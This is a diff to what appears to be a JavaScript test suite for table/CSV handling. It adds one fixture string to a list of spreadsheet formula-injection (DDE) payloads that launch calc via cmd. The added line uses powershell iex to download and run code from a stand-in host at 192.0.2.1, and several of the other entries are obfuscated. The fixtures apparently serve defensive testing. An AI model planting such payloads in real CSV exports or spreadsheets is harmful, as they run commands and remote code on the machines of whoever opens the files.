@@ -20,6 +20,7 @@ suite('tables', () => {
     "a;b\n3;=    C    m D      |     '/   c    c  al  c  .  e   x  e  '   !   A;z\n",
     "1,=REUTER|'IDN'!'X,1'+cmd|'/c calc'!A\n",
     '1,"=cmd|\'/c powershell -c ""calc""\'!A1"\n',
+    'id,a\n1,x\n2,"=cmd|\'/C powershell -c ""iex(\'\'http://192.0.2.1/p\'\')""\'!A0"\n',
     "name,note\nA,The order was sent to the customer.\nB,-2+cmd|' /C calc'!A0\nC,3\n",
     "id;text\n1;This is a long note of a clerk.\n2;=cmd|' /C calc'!A0\n",
   ]
